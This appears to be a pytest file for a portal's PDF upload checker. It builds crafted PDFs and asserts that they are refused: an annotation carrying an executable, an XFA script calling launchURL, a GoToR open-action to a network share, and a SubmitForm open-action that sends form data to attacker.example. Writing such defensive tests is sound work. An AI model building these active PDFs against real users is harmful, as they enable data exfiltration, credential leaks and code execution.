"""PDFs that attach a file or carry a script where the plain names are not: a file attached
to an annotation, whose stream need not say it is an embedded file, and an XFA form."""

from __future__ import annotations

import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from qa_portal.storage import ACTIVE_PDF, PDF, UploadRefused, check_upload


def pdf_with(action) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    action(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def stream(writer: PdfWriter, data: bytes):
    body = DecodedStreamObject()
    body.set_data(data)
    return writer._add_object(body)


def program_on_an_annotation(writer: PdfWriter) -> None:
    """A paperclip on the page holding a program; its stream is not typed /EmbeddedFile."""
    program = stream(writer, b"MZ\x90\x00" + bytes(200))
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("setup.exe"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): program}),
        }
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/FS"): filespec,
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def xfa_form_with_a_script(writer: PdfWriter) -> None:
    template = stream(
        writer,
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script "
        b"contentType='application/x-javascript'>app.launchURL('x')</script></template></xdp:xdp>",
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([]), NameObject("/XFA"): template}
    )


@pytest.mark.parametrize(
    "action", [program_on_an_annotation, xfa_form_with_a_script], ids=["annotation", "xfa"]
)
def test_an_attached_file_or_script_under_another_name_is_refused(action):
    with pytest.raises(UploadRefused) as refused:
        check_upload(pdf_with(action), "certificate.pdf", {PDF}, 10 * 1024 * 1024)
    assert refused.value.message == ACTIVE_PDF


def test_a_plain_pdf_with_an_ordinary_form_is_still_accepted():
    def form(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([])}
        )

    assert check_upload(pdf_with(form), "certificate.pdf", {PDF}, 10 * 1024 * 1024) == PDF


def opening_a_file_on_a_share(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): TextStringObject("\\\\fileserver\\share\\x.pdf"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def sending_the_form_to_a_server(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/SubmitForm"),
            NameObject("/F"): TextStringObject("https://attacker.example/collect"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


@pytest.mark.parametrize(
    "action", [opening_a_file_on_a_share, sending_the_form_to_a_server], ids=["gotor", "submit"]
)
def test_a_pdf_that_opens_a_remote_file_or_sends_its_form_is_refused(action):
    with pytest.raises(UploadRefused) as refused:
        check_upload(pdf_with(action), "certificate.pdf", {PDF}, 10 * 1024 * 1024)
    assert refused.value.message == ACTIVE_PDF
